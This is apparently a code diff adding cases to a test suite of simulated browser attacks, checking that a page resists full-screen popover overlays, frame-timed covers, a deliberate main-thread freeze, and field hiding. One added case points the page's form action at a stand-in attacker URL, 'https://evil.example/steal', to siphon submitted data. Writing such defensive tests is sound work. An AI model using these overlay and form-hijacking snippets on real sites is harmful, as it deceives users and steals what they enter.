@@ -116,6 +116,42 @@ export const ATTACKS: readonly Attack[] = [
     const field = document.querySelector('#code')
     field?.replaceWith(field.cloneNode())
   }),
+  never('keeps itself busy while a cover lies there', async () => {
+    const cover = document.createElement('div')
+    cover.popover = 'manual'
+    cover.style.cssText =
+      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
+    document.body.append(cover)
+    cover.showPopover()
+    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
+    setTimeout(() => {
+      const end = performance.now() + 1500
+      while (performance.now() < end);
+      cover.remove()
+    })
+  }),
+  never('covers the menu for the drawing only', async () => {
+    const cover = document.createElement('div')
+    cover.popover = 'manual'
+    cover.style.cssText =
+      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
+    document.body.append(cover)
+    const afterDrawing = new MessageChannel()
+    afterDrawing.port1.onmessage = () => {
+      cover.hidePopover()
+      requestAnimationFrame(draw)
+    }
+    function draw() {
+      cover.showPopover()
+      afterDrawing.port2.postMessage('')
+    }
+    draw()
+    await new Promise((resolve) => setTimeout(resolve, 400))
+  }),
+  never('sends the form to somebody else', () => {
+    const form = document.querySelector('form')
+    if (form) form.action = 'https://evil.example/steal'
+  }),
   never('hides the field', () => {
     const field = document.querySelector<HTMLElement>('#code')
     if (field) field.style.opacity = '0.01'
